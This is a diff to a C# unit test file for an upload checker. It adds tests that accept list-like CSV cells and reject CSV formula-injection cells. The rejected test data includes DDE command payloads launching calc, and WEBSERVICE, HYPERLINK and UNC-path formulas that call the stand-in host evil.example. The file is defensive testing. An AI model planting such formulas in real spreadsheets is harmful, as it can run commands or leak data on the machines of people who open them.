@@ -107,6 +107,43 @@ public sealed class EverydayFilesTests
         Taken("report.pdf", PdfWith("/Filter/DCTDecode", Jpeg));
     }
 
+    [Theory]
+    [InlineData("- Recruit officer(s)")]
+    [InlineData("- Done!")]
+    [InlineData("-Done!")]
+    [InlineData("-Call(s) made")]
+    [InlineData("- yes | no, done! All of it")]
+    [InlineData("\"- First, recruit officer(s)\n- then train them!\"")]
+    [InlineData("-5.3%")]
+    [InlineData("+44 (0)20 7946 0000")]
+    [InlineData("-(12)")]
+    [InlineData("- Image (see below)")]
+    public void A_cell_with_an_item_of_a_list_is_no_formula(string cell) => Taken("plan.csv", Text($"Action,By when\r\n{cell},May\r\n"));
+
+    [Theory]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("- 2+cmd|' /C calc'!A0")]
+    [InlineData("\"-2+SUM(1,2)+cmd|' /C calc'!A0\"")]
+    [InlineData("\"-2+\ncmd|' /C calc'!A0\"")]
+    [InlineData("+webservice(\"https://evil.example\")")]
+    [InlineData("- HYPERLINK(\"https://evil.example\")")]
+    [InlineData(@"+'\\evil.example\share\[b.xlsx]S'!A1")]
+    [InlineData("x, \"quoted;=cmd|'/C calc'!A0")]
+    [InlineData("=1+1")]
+    [InlineData("@SUM(A1)")]
+    public void A_cell_that_reaches_out_is_a_formula(string cell)
+    {
+        Refused("plan.csv", Text($"Action;By when\r\n{cell};May\r\n"), "run as formulas");
+        Refused("plan.csv", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"Action\tBy when\r\n{cell}\tMay\r\n")], "run as formulas");
+    }
+
+    [Fact]
+    public void A_CSV_of_two_bytes_a_letter_is_taken()
+    {
+        Taken("figures.csv", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("month\tchange\r\nMai – “two”\t-5\r\n")]);
+        Taken("figures.csv", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes("month\tchange\r\nMai\t-5\r\n")]);
+    }
+
     private static void Taken(string name, byte[] content)
     {
         var outcome = FileCheck.Check(name, content, content.Length);
